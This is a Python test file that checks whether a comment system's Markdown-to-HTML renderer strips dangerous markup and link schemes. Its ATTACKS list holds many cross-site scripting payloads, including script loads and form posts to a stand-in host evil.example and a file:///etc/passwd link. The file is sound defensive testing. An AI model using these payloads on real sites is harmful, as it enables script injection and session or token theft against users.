"""Markdown becomes HTML that can do no harm, whatever was written."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from comments.text import comment_html, excerpt, post_html, rendered_comment

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- --><b onmouseover=alert(1)>x</b><!--",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    '![x"onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[a [b](javascript:alert(1))](javascript:alert(2))",
    "**[x](javascript:alert(1))**\n\n> - [y](data:text/html,1)\n>   - <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "~~~html onload=alert(1)\n<img src=x onerror=alert(1)>\n~~~",
    "1. <scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "</div></article><h1>Not from the site</h1>",
    '<base href="//evil.example">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<a href="https://a.example" target=_top style="position:fixed" class=danger id=composer>x</a>',
    "\x1b]8;;javascript:alert(1)\x07x",
]

COMMENT_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "ul",
}  # fmt: skip
POST_TAGS = COMMENT_TAGS | {
    "h2", "h3", "h4", "img", "table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption",
}  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "img": {"src", "alt", "title"},
    "th": {"align"},
    "td": {"align"},
}


class Elements(HTMLParser):
    """Every element with its attributes, as a browser would read them."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def links(self) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.found if tag == "a"]


def assert_harmless(source: str, tags: set[str]) -> None:
    for tag, attributes in Elements(source).found:
        assert tag in tags, source
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), source
        for name in ("href", "src"):
            address = attributes.get(name)
            # A path ends where a query or a fragment begins, and these may have colons (RFC 3986).
            if address is not None and ":" in re.split("[/?#]", address)[0]:
                scheme = address.split(":")[0].lower()
                assert scheme in {"http", "https", "mailto"}, source


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_text(attack: str) -> None:
    assert_harmless(comment_html(attack), COMMENT_TAGS)
    assert_harmless(post_html(attack), POST_TAGS)


@example("[](:)")
@given(st.text(alphabet=st.sampled_from("<>[]()!\"'`*_~#&;:/\\= \n\tajvscript:1.-@www"), max_size=80))
def test_no_mixture_of_markup_gets_through(source: str) -> None:
    assert_harmless(comment_html(source), COMMENT_TAGS)
    assert_harmless(post_html(source), POST_TAGS)


@given(st.lists(st.sampled_from(ATTACKS), min_size=2, max_size=4), st.sampled_from(["", "\n", "> ", "- "]))
def test_attacks_do_not_help_each_other(attacks: list[str], between: str) -> None:
    assert_harmless(comment_html(between.join(attacks)), COMMENT_TAGS)


@pytest.mark.parametrize("address", ["/posts/a:b/", "about/", "?q=a:b", "#a:b", "./a:b", "http://a/"])
def test_an_author_links_to_places_on_the_site(address: str) -> None:
    [link] = Elements(post_html(f"[a link]({address})")).links()

    assert link["href"] == address


@pytest.mark.parametrize("address", [":", ":b", "1:b", "%61:b"])
def test_what_is_neither_a_place_nor_a_scheme_leads_nowhere(address: str) -> None:
    [link] = Elements(post_html(f"[a link]({address})")).links()

    assert "href" not in link


@pytest.mark.parametrize(
    "source",
    [
        "[a link](https://a.example/)",
        "<https://a.example/>",
        "https://a.example/",
        "[a](mailto:a@a.example)",
    ],
)
def test_links_of_readers_are_not_endorsed(source: str) -> None:
    [link] = Elements(comment_html(source)).links()

    assert set((link["rel"] or "").split()) == {"nofollow", "ugc", "noopener"}


@pytest.mark.parametrize(
    ("source", "rendered"),
    [
        ("**bold** and *thin*", "<strong>bold</strong> and <em>thin</em>"),
        ("~~gone~~", "<s>gone</s>"),
        ("`a < b`", "<code>a &lt; b</code>"),
        ("> said", "<blockquote>"),
        ("- one\n- two", "<li>one</li>"),
        ("3. three", '<ol start="3">'),
        ("one\ntwo", "one<br>"),
        ("a < b & c", "a &lt; b &amp; c"),
    ],
)
def test_what_readers_may_use(source: str, rendered: str) -> None:
    assert rendered in comment_html(source)


@pytest.mark.parametrize("source", ["# Loud", "Loud\n====", "| a |\n|---|\n| b |", "![x](/a.png)"])
def test_what_would_shout_stays_text_in_a_comment(source: str) -> None:
    assert {tag for tag, _ in Elements(comment_html(source)).found} <= {"p", "br", "hr", "a"}


def test_an_author_has_headings_images_and_tables() -> None:
    html = post_html("## Title\n\n![A cat](/cat.png)\n\n| a | b |\n|---|:-:|\n| 1 | 2 |")

    assert {"h2", "img", "table", "th", "td"} <= {tag for tag, _ in Elements(html).found}


@pytest.mark.parametrize("source", ["안녕하세요", "👩‍👩‍👧", "<b>x</b>", '"quoted"', "a & b", "x_y_z"])
def test_the_text_itself_is_shown_as_it_was_written(source: str) -> None:
    assert Elements(comment_html(source)).text.strip() == source


def test_deep_nesting_is_rendered_and_in_time() -> None:
    for source in (">" * 5000, "[" * 5000, "*" * 5000, "- " * 2500, "`" * 5000, "a\n" * 2500):
        assert_harmless(comment_html(source), COMMENT_TAGS)


def test_an_excerpt_is_plain_text_cut_between_words() -> None:
    source = "# Title\n\nSome **bold** text, <b>x</b> & [a link](https://a.example). " + "word " * 100

    short = excerpt(source, 80)

    assert len(short) <= 81
    assert short.startswith("Some bold text, <b>x</b> & a link. word")
    assert short.endswith("word…")
    assert excerpt("Short *enough*") == "Short enough"


@pytest.mark.parametrize("source", ["[x](/accounts/)", "[x](//evil.example)", "[x](#here)", "[x](?a=b)"])
def test_links_without_a_scheme_lead_nowhere(source: str) -> None:
    assert "href" not in comment_html(source)


def test_a_bare_mail_address_is_no_link() -> None:
    assert "<a" not in comment_html("write to somebody@example.org")


# What lies near the border between a text that needs no parser and one that does.
PIECES = [
    "word", "두 낱말", "a.b", "a.com", "www.a.com", "Well...", "a:b", "http:", "//a.com", "a@b.com",
    "안녕.한국", "-", "- ", "+ ", "1.", "1. ", "12) ", "1 ", "3 words", "=", "===", "---", "#", "# ", "| a |",
    "(a)", "!", "![", "&", "&amp;", "<", ">", '"', "'", "\\", "`", "*", "_", "~~", "[a]", "a/b", "{}", "$",
    "%", "^", "…", "。", " ", "  ", "    ", "\t", "\n", "\n\n",
    "\r\n", "\u00a0", "\u3000", "\u2028", "\u200b",
    "\ufeff", "\x0b", "\x1c", "\x00", "\x7f", "\x85", "\u0663. ", "👩‍👩‍👧", "\u1112\u1161", "\ufffe",
    ".", ":", ". ", ": ", "localhost:8000",
]  # fmt: skip


@settings(max_examples=1000)
@given(st.text(max_size=40) | st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_the_short_way_comes_to_the_same_as_the_long_one(source: str) -> None:
    assert comment_html(source) == rendered_comment(source)


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize(
    "form", ["{}", "{} word", "word {}", "word\n{}", "word\n{} word", "word{}word", "{}\nword"]
)
def test_each_piece_takes_either_way_to_the_same(piece: str, form: str) -> None:
    source = form.replace("{}", piece)

    assert comment_html(source) == rendered_comment(source)


@pytest.mark.parametrize(
    "source", ["Hello", "One, two.\nThree: four!  ", "안녕하세요, 좋은 글이네요. ㅋㅋㅋ", '=1= "yes"']
)
def test_what_most_people_write_needs_no_parser(source: str, monkeypatch: pytest.MonkeyPatch) -> None:
    html = rendered_comment(source)
    monkeypatch.delattr("comments.text.rendered_comment")

    assert comment_html(source) == html
